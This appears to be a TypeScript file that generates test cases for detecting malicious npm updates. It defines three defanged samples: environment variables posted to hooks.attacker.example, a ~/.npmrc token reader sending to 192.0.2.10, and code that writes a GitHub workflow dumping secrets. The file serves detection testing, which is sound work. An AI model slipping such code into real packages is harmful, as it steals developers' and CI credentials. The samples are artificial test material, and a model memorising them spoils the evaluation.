/**
 * Secret stealers: the environment posted to a webhook, a `.npmrc` token reader, a GitHub workflow writer.
 * Defanged: hosts are `*.example`, addresses TEST-NET.
 */
import type { EvalCase } from './case.js';
import { libraryModule } from './code.js';

export function envWebhook(): EvalCase {
  const analytics = libraryModule('metric', 10, ['https']);
  const evil = `${analytics}setTimeout(() => { fetch('https://hooks.attacker.example/collect', { method: 'POST', body: JSON.stringify(process.env) }).catch(() => {}); }, 1000);\n`;
  return {
    id: 'env-webhook',
    incident: 'the environment (CI secrets) posted to a webhook from a module the entry point loads',
    name: 'metrics-lite',
    from: '1.4.2',
    to: '1.4.3',
    manifest: { main: 'index.js' },
    before: { 'index.js': "module.exports = require('./lib/analytics.js');\n", 'lib/analytics.js': analytics },
    after: { 'index.js': "module.exports = require('./lib/analytics.js');\n", 'lib/analytics.js': evil },
    file: 'lib/analytics.js',
  };
}

export function npmrcStealer(): EvalCase {
  const config = libraryModule('cfg', 12, ['fs', 'path']);
  const evil = [
    config,
    "const home = require('os').homedir();",
    "try { const rc = fs.readFileSync(path.join(home, '.npmrc'), 'utf8'); require('http').request({ host: '192.0.2.10', method: 'POST' }).end(rc); } catch {}",
    '',
  ].join('\n');
  return {
    id: 'npmrc-stealer',
    incident: 'a .npmrc token stealer added to a config helper',
    name: 'rc-config-loader',
    from: '4.1.3',
    to: '4.1.4',
    manifest: { main: 'index.js' },
    before: { 'index.js': "module.exports = require('./lib/config.js');\n", 'lib/config.js': config },
    after: { 'index.js': "module.exports = require('./lib/config.js');\n", 'lib/config.js': evil },
    file: 'lib/config.js',
  };
}

export function workflowWriter(): EvalCase {
  const setup = libraryModule('setup', 10, ['fs']);
  const yaml = 'on: push\\njobs:\\n  x:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: echo "${{ toJSON(secrets) }}" > /dev/null\\n';
  const evil = `${setup}try { fs.mkdirSync('.github/workflows', { recursive: true }); fs.writeFileSync('.github/workflows/ci-helper.yml', "${yaml}"); } catch {}\n`;
  return {
    id: 'workflow-writer',
    incident: 'Shai-Hulud/s1ngularity: a GitHub workflow written into the repository that installs the package',
    name: 'repo-setup-tools',
    from: '2.2.0',
    to: '2.2.1',
    manifest: { main: 'index.js' },
    before: { 'index.js': "module.exports = require('./lib/setup.js');\n", 'lib/setup.js': setup },
    after: { 'index.js': "module.exports = require('./lib/setup.js');\n", 'lib/setup.js': evil },
    file: 'lib/setup.js',
  };
}
